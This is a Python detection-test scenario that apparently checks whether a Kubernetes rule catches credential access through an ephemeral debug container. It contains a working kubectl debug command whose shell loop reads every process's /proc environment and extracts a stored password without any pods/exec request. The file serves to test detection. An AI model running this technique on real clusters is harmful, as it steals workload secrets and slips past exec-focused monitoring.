"""A debug container added to a running pod (kubectl debug) reads its process's secrets: no exec at all."""

from __future__ import annotations

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario

SECRET = "hunter2"


class DebugContainer(Scenario):
    id = "kubernetes.exec.debug-container"
    title = "Ephemeral debug container joins a running pod's processes and reads their environment"
    kind = Kind.ADVERSARY
    techniques = ("T1609",)
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.exec-into-pod",), within_s=20)
    twin = "kubernetes.exec.operator-read-only"
    tags = ("kubernetes", "execution", "credential-access")
    description = (
        "Thinking as someone who read the exec rule as it was (pods/exec only): runs a web server pod "
        "whose environment holds a database password, then, with kubectl debug, adds an ephemeral "
        "container from an image already on the node, targeting the server's container so it shares its "
        "process namespace. The debug container's own command reads every process's environment through "
        "/proc and prints the password; no pods/exec request is made, only a patch of the pod's "
        "ephemeralcontainers subresource. The scenario reads the debug container's log and checks the "
        "password is in it."
    )

    def detonate(self, lab: Lab) -> None:
        pod = lab.deploy(WorkloadSpec(role="web", command=("python3", "-m", "http.server", "8080"),
                                      env={"DB_PASSWORD": SECRET}))
        namespace = pod.namespace or "default"
        container = lab.kubectl("get", "pod", "-n", namespace, pod.name, "-o",
                                "jsonpath={.spec.containers[0].name}").output.strip()
        lab.action("kubectl debug: add an ephemeral container that shares the pod's processes")
        lab.kubectl("debug", "-n", namespace, pod.name, f"--image={lab.image}", "--image-pull-policy=IfNotPresent",
                    f"--target={container}", "-c", "dbg", "--", "sh", "-c",
                    "for e in /proc/[0-9]*/environ; do tr '\\0' '\\n' < \"$e\" 2>/dev/null; done | "
                    "grep '^DB_PASSWORD=' | sort -u; sleep 300")
        lab.wait_for(lambda: f"DB_PASSWORD={SECRET}" in lab.kubectl("logs", "-n", namespace, pod.name, "-c", "dbg",
                                                                   check=False).output,
                     timeout=30, what="the debug container to print the server's password")
